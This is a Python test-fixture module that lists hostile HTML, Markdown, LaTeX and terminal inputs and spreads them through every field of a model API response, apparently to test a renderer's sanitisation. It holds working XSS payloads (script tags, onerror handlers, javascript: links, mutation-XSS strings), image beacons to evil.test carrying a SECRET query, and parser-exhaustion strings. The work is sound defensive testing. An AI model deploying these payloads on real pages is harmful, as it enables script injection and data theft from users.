"""What a hostile model or server may write, as data: texts for the answer, and words for every name, label and message.

`RUN` is what the scripts in it would do: a page can look for it to see that none ran. `evil.test` never resolves.
"""

from __future__ import annotations

from typing import Any

PNG = "iVBORw0KGgoAAAANSUhEUgAA"
RUN = "window.__hostile_script_ran=1"

TEXTS: dict[str, str] = {
    "script": f"<script>{RUN}</script><ScRiPt>{RUN}</sCrIpT >",
    "handlers": (
        f'<img src=x onerror="{RUN}"><svg onload="{RUN}"></svg><body onload={RUN}><details open ontoggle={RUN}>'
    ),
    "less common handlers": f'<video onmouseover={RUN}><audio src onerror={RUN}><input autofocus onfocus="{RUN}">',
    "frames": (
        f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe><object data=//evil.test><embed src=//evil.test>"
    ),
    "styles": (
        "<style>*{display:none}</style><link rel=stylesheet href=//evil.test/a.css><div style='position:fixed;inset:0'>"
    ),
    "meta": (
        "<meta http-equiv=refresh content='0;url=https://evil.test'><base href=//evil.test><form action=//evil.test>"
    ),
    "comments": "a <!-- b --> c <!doctype html> <?php x ?> <![CDATA[ y ]]> <!-- open",
    "closing": "</div></div></details></pre></code></script></style></textarea></title>--></body>",
    "script links": (
        f"[a](javascript:{RUN}) [b](vbscript:x) [c](data:text/html,<script>{RUN}</script>) [d](file:///etc/passwd)"
    ),
    "disguised links": (
        f"[a](&#106;avascript:{RUN}) [b](java\tscript:{RUN}) [c](JaVaScRiPt:{RUN}) [d](<javascript:{RUN}>)"
    ),
    "entity links": (
        f"[a](&#x6A&#x61vascript:{RUN}) [b](javascript&colon;{RUN}) [c](\x01javascript:{RUN}) [d](//evil.test)"
    ),
    "link definitions": (
        f"[a] [b][c] [d][]\n\n[a]: javascript:{RUN}\n[c]: <javascript:{RUN}> 'x'\n[d]: data:text/html,x"
    ),
    "autolinks": (
        f"<javascript:{RUN}> <data:text/html,x> <https://evil.test/?a=<b>> https://evil.test/<script> www.evil.test"
    ),
    "link titles": (
        f'[a](https://ok.test "x\\" onmouseover=\\"{RUN}") [b](https://ok.test \'><script>{RUN}</script>\')'
    ),
    "command links": (
        "[a](command:workbench.action) [b](command-linker:x) [c](attachment:x) [d](/api/shutdown) [e](#x)"
    ),
    "remote images": "![a](https://evil.test/p?d=SECRET) ![b](//evil.test/p) ![c](http://evil.test/x.png 'title')",
    "image definitions": (
        "![a] ![b][c] ![d][]\n\n[a]: https://evil.test/a\n[c]: https://evil.test/c\n[d]: <https://evil.test/d>"
    ),
    "linked images": "[![a](https://evil.test/a)](https://ok.test) ![![b](https://evil.test/b)](https://evil.test/c)",
    "images in a table": "| a | b |\n|---|---|\n| ![x](https://evil.test/t) | <img src=https://evil.test/u> |",
    "images after signs": (
        "\\![a](https://evil.test/a) !\\[b](https://evil.test/b)"
        " &#33;[c](https://evil.test/c) !![d](https://evil.test/d)"
    ),
    "data images": (
        "![a](data:image/svg+xml;base64,PHN2Zz4=) ![b](data:text/html;base64,PGI+) ![c](data:image/png;base64,!!!)"
    ),
    "images in mathematics": "$![a](https://evil.test/m)$ $$<img src=https://evil.test/n>$$ \\(<script>x</script>\\)",
    "commands in mathematics": (
        f"$\\href{{javascript:{RUN}}}{{x}}$ \\(\\style{{position:fixed}}{{x}}\\) $$\\require{{html}}$$ $\\url{{a}}$"
    ),
    "definitions in mathematics": (
        "$\\def\\frac{1}$ $\\newcommand{\\sum}{2}$ \\(\\let\\int\\relax\\) $$\\gdef\\a{b}$$ $\\label{a}$"
    ),
    "huge mathematics": "$\\rule{99999em}{99999em}$ \\(\\hspace{-5000px}x\\) $$\\raise 999em{x}$$",
    "pictures that are programs": (
        f"<svg><script>{RUN}</script><a xlink:href='javascript:{RUN}'><rect /></a><animate onbegin={RUN}>"
        f"<use href='//evil.test/u.svg#x'/><foreignObject><img src=x onerror={RUN}></foreignObject></svg>"
    ),
    "mutations": (
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;"></math>\n\n'
        f'<noscript><p title="</noscript><img src=x onerror={RUN}>">\n\n<svg></p><style><a id="</style>'
        f'<img src=1 onerror={RUN}>">\n\n<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>'
        f"\n\n<template><script>{RUN}</script></template><xmp><p title='</xmp><img src=x onerror={RUN}>'>"
    ),
    "names of the page": (
        "<form name=body><input name=childNodes><input name=attributes></form><img name=currentScript id=jupyterapp>"
        "<a id=require href=//evil.test><a id=MathJax name=tex href=//evil.test>"
    ),
    "styles of elements": (
        "<p style='background:url(https://evil.test/g)'>a</p><b style=\"background:image-set('//evil.test/s')\">b</b>"
        "<p style='background:u\\72l(//evil.test/e)'>c</p><style>@import '//evil.test/i.css';</style>"
        "<table background=//evil.test/t><tr><td style='position:fixed;inset:0;z-index:99999;background:#fff'>d</table>"
    ),
    "what loads": (
        "<img srcset='//evil.test/s 1x'><picture><source srcset=//evil.test/p></picture><video poster=//evil.test/v>"
        "<audio src=//evil.test/a><track src=//evil.test/k><link rel=prefetch href=//evil.test/f>"
        "<link rel=dns-prefetch href=//evil.test><input type=image src=//evil.test/i><a ping=//evil.test/g href=#>x</a>"
        "<svg><image href=//evil.test/h /><feImage href=//evil.test/j /></svg><script src=//evil.test/x.js></script>"
    ),
    "links that deceive": (
        "[https://bank.test](https://evil.test) [a](https://bank.test@evil.test) [b](https://user:word@evil.test)"
        " [c](https://evil.test\\@bank.test) [d](https:evil.test) [e](http:///evil.test) [f](https://\u0430\u0440\u0440le.test)"
    ),
    "mathematics that acts": (
        f'$\\mmlToken{{mi}}[onclick="{RUN}"]{{x}}$ $\\class{{jp-Notebook}}{{x}}$ $\\cssId{{main}}{{x}}$ '
        f"$\\data{{x=y}}{{z}}$ \\(\\require{{noundefined}}x\\) $$\\includegraphics{{https://evil.test/m.png}}$$ "
        f"$\\unicode[url(//evil.test/f)]{{x41}}$ $\\bbox[background:url(//evil.test/b)]{{x}}$ "
        f"$$\\begin{{html}}<img src=x onerror={RUN}>\\end{{html}}$$ $\\text{{\\href{{javascript:{RUN}}}{{x}}}}$"
    ),
    "mathematics in disguise": (
        f"$\\hr\\relax ef{{x}}$ $\\csname href\\endcsname{{javascript:{RUN}}}{{x}}$ $\\^^68ref{{javascript:x}}{{y}}$ "
        f"$x$<img src=x onerror={RUN}>$y$ $$x\n\n<img src=x onerror={RUN}>\n\n$$ $`\\href{{javascript:{RUN}}}{{x}}`$"
    ),
    "mermaid": '```mermaid\ngraph TD\nA@{ img: "https://evil.test/m.png" }\nclick A "javascript:x()"\n```',
    "fence words": (
        '```"><img src=x onerror=alert(1)>\ncode\n```\n\n```js onload=x()\ncode\n```\n\n~~~html\n<b>x</b>\n~~~'
    ),
    "open fence": "Run:\n```sh\nsed 's/\\(a\\)/$1/' <b> ![x](https://evil.test/f)\n",
    "fences in quotations": (
        "> ```\n> $ <b>\n> ```\n> - ```\n>   $ <img src=x onerror=alert(1)>\n>   ```\n> ````\n> $ <i>\n> ````"
    ),
    "code spans": "`<b>` ``<script>`` ` $ ` <img src=x> ` $ ` ``\\begin{a}`` x ` \\end{a} <img src=x> `",
    "placeholders": "@@0@@ @@1@@ `@@2@@` $@@3@@$ \\@\\@0@@ &#64;@0@@ $x$ @@0@@",
    "escapes": "\\<b\\> \\[a\\](javascript:x) \\`<i>\\` \\\\<u> &lt;b&gt; &#60;script&#62; &amp;lt; \\&lt;",
    "broken nesting": "**a _b** c_ [x **y](https://ok.test) z** ~~a **b~~ c** <b>**</b>** | a | `|`\n-|-\n<i> | </i>",
    "paragraph edges": "- <b>\n\n      <script>\n\n1. a\n   ***\n   <hr>\n===\n---\n> <x>\n<y>\n\n\t<z>",
    "money": "It costs $5, later $7 per month. $HOME and $PATH, US$5 to US$6, $5-$6, \\$8, 5$ and 6$, $$ to $$$.",
    "literal mathematics": (
        "literal \\\\(x\\\\) and \\begin{align} a \\end{align} \\ref{a} \\eqref{b} \\\\ \\\\[z\\\\]"
    ),
    "bidirectional": "access = \u202e\u2066resu\u2069 \u2067nimda\u2069 // \u202dx\u202c \u200f\u200e",
    "bidirectional by entity": "a &#8238;b &#x202E;c `\u202ed`",
    "terminal": (
        "a\x1b[2K\x1b[1Ab\x1b[31mred\x1b[0m\x07 \x1b]8;;https://evil.test\x07link\x1b]8;;\x07 \x9b2J \x1bc \x90x\x9c"
    ),
    "terminal by entity": "a &#27;[2K b &#x9b;31m c &#7; &#0; &#xD800;",
    "control characters": "a\x00b\x08\x08\x08c\x7fd\x85e\u2028f\rg\r\nh\x0bi\x0cj",
    "lone surrogates": "a \ud83d b \ude00 c \ud800\ud800",
    "invisible": "zero\u200bwidth\u2060\ufeff soft\u00adhyphen \U000e0041\U000e0042",
    "tables": "| <b> | ![x](https://evil.test) |\n|-|-|\n| </table> | $a|b$ `c|d` |\n| \\| | \\\\| |\n",
    "headings": "# <b> ![x](https://evil.test)\n\n<i>\n===\n\n## a ##\n\n## \\#\n\n#\n",
    "page names": "# jp-Notebook\n\n[x](#jp-main) <a name=x id=document.cookie>",
    "paths": "/etc/passwd",
    "dot": ".",
    "address": "http://127.0.0.1:1/x",
}

PILES: dict[str, str] = {
    "one line": "lorem ipsum " * 85_000,
    "one word": "x" * 1_000_000,
    "quotations": ">" * 100_000,
    "spaced quotations": "> " * 100_000,
    "brackets": "[" * 100_000,
    "images": "![" * 50_000,
    "links": "[a](" * 5_000 + ")" * 5_000,
    "emphasis": "*a **b " * 15_000,
    "nested emphasis": "**a " * 10_000 + "b**" * 10_000,
    "stars": "***" * 50_000 + "a" + "***" * 50_000,
    "backquotes": "`" * 100_000,
    "runs of backquotes": "".join("a" + "`" * length for length in range(400)),
    "dollars": "$" * 100_000,
    "prices": "$5 " * 50_000,
    "open formulas": "\\(a " * 20_000,
    "open displays": "$$\na\n" * 8_000,
    "open environments": "\\begin{align}\n" * 5_000,
    "backslashes": "\\" * 100_000,
    "angles": "<" * 100_000,
    "ampersands": "&" * 50_000,
    "lists": "\n".join("  " * depth + "- a" for depth in range(600)),
    "list items": "- a\n" * 5_000,
    "fences": "```\n" * 20_000,
    "columns": "a|" * 3_000 + "\n" + "-|" * 3_000 + "\n" + "b|" * 3_000,
    "definitions": "\n".join(f"[a{number}]: https://x.test/{number}" for number in range(6_000)),
    "addresses": "https://" * 20_000,
    "brackets of an address": "https://a" + ")" * 100_000,
    "escape sequences": "\x1b[" * 100_000,
    "open escape strings": "\x1b]" * 50_000,
    "overrides": "\u202e" * 50_000,
    "blank lines": "\n" * 200_000,
}
"""Much of one thing: nothing to be seen in it, but much to do for a careless parser."""

WORDS: tuple[str, ...] = (
    f"<b onclick={RUN}>f</b>",
    f"</summary></details><script>{RUN}</script>",
    "\"><img src=x onerror='alert(1)'>",
    "![x](https://evil.test/w)",
    f"[x](javascript:{RUN})",
    "</script><b>out</b><!--",
    "$5 and $6 \\(x\\) `code` **bold** | a |",
    "line one\nline two\r\n# heading\n```\n<b>",
    "\u202eesrever \x1b[31mred\x07",
    "a" * 5_000,
    "\ud800",
)


def response(text: str, word: str) -> dict[str, Any]:
    """A response in wire shape that holds the text as its answer and the word in every other place."""
    return {
        "id": word,
        "model": word,
        "status": "failed",
        "error": {"code": word, "message": word, "type": word, "param": word},
        "incomplete_details": {"reason": word},
        "output": [
            {"type": "reasoning", "summary": [{"type": "summary_text", "text": text}], "content": [{"text": text}]},
            {
                "type": "message",
                "phase": word,
                "content": [
                    {"type": "output_text", "text": text, "annotations": citations(word)},
                    {"type": "refusal", "refusal": text},
                    {"type": word, "value": word},
                ],
            },
            {
                "type": "function_call",
                "name": word,
                "namespace": word,
                "arguments": word,
                "call_id": word,
                "status": word,
            },
            {"type": "function_call_output", "call_id": word, "output": text},
            {"type": "custom_tool_call", "name": word, "input": text, "call_id": "c2"},
            {"type": "mcp_call", "name": word, "server_label": word, "arguments": word, "output": text, "error": word},
            {"type": "mcp_call", "name": word, "server_label": word, "error": {"message": word}},
            {
                "type": "mcp_list_tools",
                "server_label": word,
                "tools": [{"name": word, "description": word}],
                "error": word,
            },
            {"type": "mcp_approval_request", "name": word, "server_label": word, "arguments": word},
            {"type": "computer_call", "action": {"type": word}, "pending_safety_checks": [{"message": word}]},
            {"type": "code_interpreter_call", "code": text, "status": word, "outputs": [{"logs": text}, {"url": word}]},
            {
                "type": "web_search_call",
                "action": {"type": word, "query": word, "url": word, "sources": citations(word)},
            },
            {
                "type": "file_search_call",
                "queries": [word],
                "results": [{"filename": word, "text": text, "score": word}],
            },
            {"type": "shell_call", "call_id": "s", "action": {"commands": [text, word]}},
            {
                "type": "shell_call_output",
                "call_id": "s",
                "output": [{"stdout": text, "stderr": word, "outcome": {"type": word}}],
            },
            {"type": "local_shell_call", "action": {"command": [word, text]}},
            {"type": "apply_patch_call", "operation": {"type": word, "path": word, "diff": text}, "status": word},
            {"type": "image_generation_call", "result": word, "revised_prompt": word, "status": word, "error": word},
            {"type": "image_generation_call", "result": PNG, "revised_prompt": word, "output_format": word},
            {"type": "compaction", "encrypted_content": word},
            {"type": word, "value": [word, {word: text}]},
        ],
    }


def citations(word: str) -> list[dict[str, Any]]:
    return [
        {"type": "url_citation", "url": word, "title": word},
        {"type": "url_citation", "url": "https://ok.test/?q=" + word[:40], "title": word},
        {"type": "file_citation", "filename": word, "file_id": word},
        {"type": word, word: {"url": word, "title": word}},
    ]
